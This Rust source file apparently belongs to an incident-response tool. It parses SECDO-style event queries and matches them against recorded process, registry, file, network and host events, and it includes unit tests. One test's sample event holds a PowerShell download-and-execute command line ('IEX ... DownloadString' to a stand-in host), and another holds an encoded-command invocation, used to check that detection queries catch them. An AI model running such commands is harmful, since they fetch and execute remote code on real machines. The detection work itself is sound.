//! The event query: SECDO's URL query semantics over Riposte's event model, so a SIEM
//! that builds `…/investigationNG/builder?entity=network&action=outgoing_network,
//! incoming_network&attr=remote_ip:8.8.8.8|8.8.4.4` links can ask Riposte the same
//! question across every investigation.
//!
//! Syntax, as SECDO writes it: `entity` (one of `process`, `registry`, `file`, `network`,
//! `host`), `action` (comma-separated; any of them), `attr` (comma-separated
//! `name:value` conditions, all of which must hold; `|` between alternative values, any of
//! which may match; `*` matches any run of characters; values compare without case).
//! Spaces around separators are tolerated. SECDO's vocabulary maps onto Riposte's events
//! as in [`ATTRIBUTES`]; an attribute Riposte does not record yet is refused with a reason
//! rather than answered with nothing.

use crate::{Action, EntityKind, Event};
use std::fmt;

/// A query part that cannot be used: which part, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{part}: {problem}")]
pub struct QueryError {
    /// The part at fault: `entity`, `action`, `attr`, `attr.remote_ip`, …
    pub part: String,
    /// What is wrong, and what is accepted.
    pub problem: String,
}

fn error(part: impl Into<String>, problem: impl Into<String>) -> QueryError {
    QueryError {
        part: part.into(),
        problem: problem.into(),
    }
}

/// Where a SECDO attribute is found in a Riposte event.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Field {
    /// An event attribute of this name.
    Attribute(&'static str),
    /// The event's host.
    Host,
    /// Not recorded by Riposte yet: the reason.
    Unknown(&'static str),
}

/// SECDO's attributes per entity (the table of its URL parameters) and where Riposte keeps
/// each.
pub const ATTRIBUTES: &[(&str, &[(&str, Field)])] = &[
    (
        "process",
        &[
            ("file_name", Field::Attribute("file_name")),
            ("file_path", Field::Attribute("file_path")),
            ("process_hash", Field::Attribute("process_hash")),
            ("pid", Field::Attribute("pid")),
            ("thread_id", Field::Unknown("thread ids are not recorded")),
            ("username", Field::Attribute("username")),
            ("cmd", Field::Attribute("cmd")),
            (
                "CGN",
                Field::Unknown("SECDO's causality group numbers do not exist in Riposte"),
            ),
            (
                "signed",
                Field::Unknown("code signatures are not checked yet"),
            ),
            (
                "instanceId",
                Field::Unknown("SECDO instance ids do not exist in Riposte"),
            ),
        ],
    ),
    (
        "registry",
        &[
            ("key_name", Field::Attribute("key_name")),
            ("key_value", Field::Attribute("key_value")),
            ("thread_id", Field::Unknown("thread ids are not recorded")),
            (
                "instanceId",
                Field::Unknown("SECDO instance ids do not exist in Riposte"),
            ),
        ],
    ),
    (
        "file",
        &[
            ("file_name", Field::Attribute("file_name")),
            ("file_path", Field::Attribute("file_path")),
            ("file_hash", Field::Attribute("file_hash")),
            ("old_file_path", Field::Attribute("old_file_path")),
            ("thread_id", Field::Unknown("thread ids are not recorded")),
            (
                "instanceId",
                Field::Unknown("SECDO instance ids do not exist in Riposte"),
            ),
        ],
    ),
    (
        "network",
        &[
            ("remote_ip", Field::Attribute("remote_ip")),
            ("remote_port", Field::Attribute("remote_port")),
            ("remote_host", Field::Attribute("remote_host")),
            (
                "country",
                Field::Unknown("addresses are not geolocated yet"),
            ),
            ("access_type", Field::Attribute("protocol")),
            ("local_ip", Field::Attribute("local_ip")),
            ("local_port", Field::Attribute("local_port")),
            ("thread_id", Field::Unknown("thread ids are not recorded")),
            (
                "instanceId",
                Field::Unknown("SECDO instance ids do not exist in Riposte"),
            ),
        ],
    ),
    (
        "host",
        &[
            ("host_name", Field::Host),
            (
                "host_ip",
                Field::Unknown("host addresses are not recorded on events yet"),
            ),
        ],
    ),
];

/// SECDO's actions per entity, and the Riposte action each is.
const ACTIONS: &[(&str, &[(&str, Action)])] = &[
    (
        "process",
        &[
            ("run", Action::ProcessRun),
            ("parent", Action::ProcessParent),
            ("child", Action::ProcessChild),
            ("injection", Action::ProcessInjection),
            ("injector", Action::ProcessInjector),
        ],
    ),
    (
        "registry",
        &[
            ("exists", Action::RegistryExists),
            ("write_registry", Action::RegistryWrite),
            ("rename_registry", Action::RegistryRename),
            ("delete_registry", Action::RegistryDelete),
        ],
    ),
    (
        "file",
        &[
            ("exists", Action::FileExists),
            ("create_file", Action::FileCreate),
            ("write_file", Action::FileWrite),
            ("read_file", Action::FileRead),
            ("delete_file", Action::FileDelete),
            ("rename_file", Action::FileRename),
        ],
    ),
    (
        "network",
        &[
            ("outgoing_network", Action::NetworkOutgoing),
            ("incoming_network", Action::NetworkIncoming),
            ("failed_network", Action::NetworkFailed),
        ],
    ),
    ("host", &[]),
];

/// One `name:value|value…` condition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttrCondition {
    /// The attribute as SECDO names it.
    pub name: String,
    /// Where it is in an event.
    pub field: Field,
    /// Alternatives, lower-cased, `*` a wildcard; any may match.
    pub alternatives: Vec<String>,
}

/// A parsed event query.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct EventQuery {
    /// The entity.
    pub entity: EntityKind,
    /// The actions (any); empty means every action of the entity.
    pub actions: Vec<Action>,
    /// The conditions (all).
    pub conditions: Vec<AttrCondition>,
}

/// Most alternatives, conditions and actions one query may hold, and the longest value.
const MAX_PARTS: usize = 64;
const MAX_VALUE: usize = 1024;

impl EventQuery {
    /// Parses SECDO's `entity`, `action` and `attr` parameters (already URL-decoded).
    pub fn parse(
        entity: &str,
        action: Option<&str>,
        attr: Option<&str>,
    ) -> Result<EventQuery, QueryError> {
        let entity_name = entity.trim().to_ascii_lowercase();
        let Some((_, known_actions)) = ACTIONS.iter().find(|(e, _)| *e == entity_name) else {
            return Err(error(
                "entity",
                format!(
                    "unknown entity {:?}; use process, registry, file, network or host",
                    clip(entity)
                ),
            ));
        };
        let entity_kind: EntityKind = entity_name
            .parse()
            .map_err(|_| error("entity", "unknown entity"))?;
        let mut actions = Vec::new();
        for name in split(action.unwrap_or_default(), ',') {
            let Some((_, action)) = known_actions
                .iter()
                .find(|(a, _)| a.eq_ignore_ascii_case(name))
            else {
                let valid: Vec<&str> = known_actions.iter().map(|(a, _)| *a).collect();
                return Err(error(
                    "action",
                    format!(
                        "{:?} is not an action of {entity_name}; use {}",
                        clip(name),
                        if valid.is_empty() {
                            "none (host has no actions)".to_string()
                        } else {
                            valid.join(", ")
                        }
                    ),
                ));
            };
            if !actions.contains(action) {
                actions.push(*action);
            }
        }
        let (_, fields) = ATTRIBUTES
            .iter()
            .find(|(e, _)| *e == entity_name)
            .ok_or_else(|| error("entity", "unknown entity"))?;
        let mut conditions = Vec::new();
        for part in split(attr.unwrap_or_default(), ',') {
            let Some((name, values)) = part.split_once(':') else {
                return Err(error("attr", format!("{:?} is not name:value", clip(part))));
            };
            let name = name.trim();
            let Some((secdo, field)) = fields.iter().find(|(n, _)| n.eq_ignore_ascii_case(name))
            else {
                let valid: Vec<&str> = fields.iter().map(|(n, _)| *n).collect();
                return Err(error(
                    format!("attr.{}", clip(name)),
                    format!(
                        "not an attribute of {entity_name}; use {}",
                        valid.join(", ")
                    ),
                ));
            };
            if let Field::Unknown(why) = field {
                return Err(error(
                    format!("attr.{secdo}"),
                    format!("Riposte cannot answer this yet: {why}"),
                ));
            }
            let alternatives: Vec<String> = split(values, '|').map(str::to_lowercase).collect();
            if alternatives.is_empty() {
                return Err(error(format!("attr.{secdo}"), "give a value"));
            }
            if alternatives.len() > MAX_PARTS || alternatives.iter().any(|a| a.len() > MAX_VALUE) {
                return Err(error(
                    format!("attr.{secdo}"),
                    format!("at most {MAX_PARTS} alternatives of {MAX_VALUE} bytes"),
                ));
            }
            conditions.push(AttrCondition {
                name: secdo.to_string(),
                field: *field,
                alternatives,
            });
        }
        if conditions.len() > MAX_PARTS {
            return Err(error("attr", format!("at most {MAX_PARTS} conditions")));
        }
        Ok(EventQuery {
            entity: entity_kind,
            actions,
            conditions,
        })
    }

    /// Whether `event` answers the query.
    pub fn matches(&self, event: &Event) -> bool {
        event.entity == self.entity
            && (self.actions.is_empty() || self.actions.contains(&event.action))
            && self.conditions.iter().all(|c| {
                let value = match c.field {
                    Field::Attribute(key) => event.attr(key),
                    Field::Host => Some(event.host.as_str()),
                    Field::Unknown(_) => None,
                };
                value.is_some_and(|v| {
                    let v = v.to_lowercase();
                    c.alternatives.iter().any(|p| wildcard(p, &v))
                })
            })
    }

    /// A literal every matching event's searchable text holds (lower-cased): the longest
    /// wildcard-free fragment of one condition whose every alternative has one of at
    /// least 3 characters — when its alternatives share none, each alternative's own.
    /// The store narrows candidates with its text index, then [`EventQuery::matches`]
    /// decides.
    pub fn text_hints(&self) -> Vec<String> {
        let mut best: Option<Vec<String>> = None;
        for c in &self.conditions {
            if c.field == Field::Host {
                continue;
            }
            let fragments: Option<Vec<String>> = c
                .alternatives
                .iter()
                .map(|a| {
                    a.split('*')
                        .max_by_key(|f| f.chars().count())
                        .filter(|f| f.chars().count() >= 3)
                        .map(str::to_string)
                })
                .collect();
            if let Some(fragments) = fragments {
                let shortest = fragments.iter().map(|f| f.len()).min().unwrap_or(0);
                let better = best.as_ref().is_none_or(|b| {
                    b.len() > fragments.len()
                        || (b.len() == fragments.len()
                            && b.iter().map(|f| f.len()).min().unwrap_or(0) < shortest)
                });
                if better {
                    best = Some(fragments);
                }
            }
        }
        best.unwrap_or_default()
    }
}

impl fmt::Display for EventQuery {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "entity={}", self.entity.as_str())?;
        if !self.actions.is_empty() {
            let actions: Vec<&str> = self.actions.iter().map(|a| a.as_str()).collect();
            write!(f, "&action={}", actions.join(","))?;
        }
        if !self.conditions.is_empty() {
            let attrs: Vec<String> = self
                .conditions
                .iter()
                .map(|c| format!("{}:{}", c.name, c.alternatives.join("|")))
                .collect();
            write!(f, "&attr={}", attrs.join(","))?;
        }
        Ok(())
    }
}

/// The non-empty, trimmed parts of `text` between `separator`s.
fn split(text: &str, separator: char) -> impl Iterator<Item = &str> {
    text.split(separator)
        .map(str::trim)
        .filter(|p| !p.is_empty())
}

/// At most 64 characters of what was given, for error messages.
fn clip(text: &str) -> String {
    text.chars().take(64).collect()
}

/// Whether `value` matches `pattern`, where `*` matches any run of characters (both
/// already lower-cased). Linear in practice: greedy with backtracking to the last star.
fn wildcard(pattern: &str, value: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let v: Vec<char> = value.chars().collect();
    let (mut pi, mut vi) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while vi < v.len() {
        if pi < p.len() && p[pi] == '*' {
            star = Some((pi, vi));
            pi += 1;
        } else if pi < p.len() && p[pi] == v[vi] {
            pi += 1;
            vi += 1;
        } else if let Some((sp, sv)) = star {
            pi = sp + 1;
            vi = sv + 1;
            star = Some((sp, sv + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|c| *c == '*')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Event, EventOrigin};

    fn process(file_name: &str, cmd: &str) -> Event {
        Event::new(
            None,
            "ws-1",
            Action::ProcessRun,
            "run",
            EventOrigin::default(),
        )
        .with("file_name", file_name)
        .with("cmd", cmd)
    }

    #[test]
    fn the_seeds_process_example_parses_with_its_spaces_and_matches_by_wildcards() {
        let q = EventQuery::parse(
            "process",
            Some("run"),
            Some("file_name: powershell.exe,cmd:*download*|*encoded*"),
        )
        .unwrap();
        assert_eq!(q.actions, [Action::ProcessRun]);
        assert_eq!(q.conditions.len(), 2);
        assert!(q.matches(&process(
            "PowerShell.exe",
            "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x')"
        )));
        assert!(q.matches(&process(
            "powershell.exe",
            "powershell -EncodedCommand SQBFAFgA"
        )));
        assert!(!q.matches(&process("powershell.exe", "powershell Get-Date")));
        assert!(!q.matches(&process("cmd.exe", "cmd /c download")));
        assert_eq!(q.text_hints(), ["powershell.exe"]);
    }

    #[test]
    fn the_seeds_network_example_takes_any_action_and_any_address() {
        let q = EventQuery::parse(
            "network",
            Some("outgoing_network, incoming_network,failed_network"),
            Some("remote_ip:8.8.8.8|8.8.4.4"),
        )
        .unwrap();
        assert_eq!(q.actions.len(), 3);
        let conn = |action, ip: &str| {
            Event::new(None, "h", action, "c", EventOrigin::default()).with("remote_ip", ip)
        };
        assert!(q.matches(&conn(Action::NetworkIncoming, "8.8.4.4")));
        assert!(q.matches(&conn(Action::NetworkFailed, "8.8.8.8")));
        assert!(!q.matches(&conn(Action::NetworkOutgoing, "8.8.8.9")));
        assert!(!q.matches(&conn(Action::ProcessRun, "8.8.8.8")));
        assert_eq!(q.text_hints(), ["8.8.8.8", "8.8.4.4"]);
    }

    #[test]
    fn each_bad_part_is_named() {
        let part = |e: &str, a: Option<&str>, t: Option<&str>| {
            EventQuery::parse(e, a, t).unwrap_err().part
        };
        assert_eq!(part("proces", None, None), "entity");
        assert_eq!(part("process", Some("run,write_file"), None), "action");
        assert_eq!(part("network", None, Some("remote_ip")), "attr");
        assert_eq!(part("network", None, Some("key_name:x")), "attr.key_name");
        let unknown = EventQuery::parse("network", None, Some("country:FR")).unwrap_err();
        assert_eq!(unknown.part, "attr.country");
        assert!(
            unknown.problem.contains("cannot answer this yet"),
            "{unknown}"
        );
        assert_eq!(part("process", None, Some("CGN:1")), "attr.CGN");
        assert_eq!(part("process", None, Some("cmd: |")), "attr.cmd");
    }

    #[test]
    fn registry_and_file_exists_are_different_actions_and_host_name_is_the_host() {
        let r = EventQuery::parse("registry", Some("exists"), None).unwrap();
        assert_eq!(r.actions, [Action::RegistryExists]);
        let f = EventQuery::parse("file", Some("exists"), None).unwrap();
        assert_eq!(f.actions, [Action::FileExists]);
        let h = EventQuery::parse("host", None, Some("host_name:web*")).unwrap();
        let event = Event::new(None, "web01", Action::HostInfo, "h", EventOrigin::default());
        assert!(h.matches(&event));
        assert!(h.text_hints().is_empty());
    }

    #[test]
    fn wildcards_match_anywhere_and_only_there() {
        assert!(wildcard("*a*b*", "xxaxxbxx"));
        assert!(wildcard("a*", "abc"));
        assert!(!wildcard("a*c", "abd"));
        assert!(wildcard("***", ""));
        assert!(!wildcard("abc", "abcd"));
        assert!(wildcard("*.exe", "c:\\windows\\cmd.exe"));
    }
}
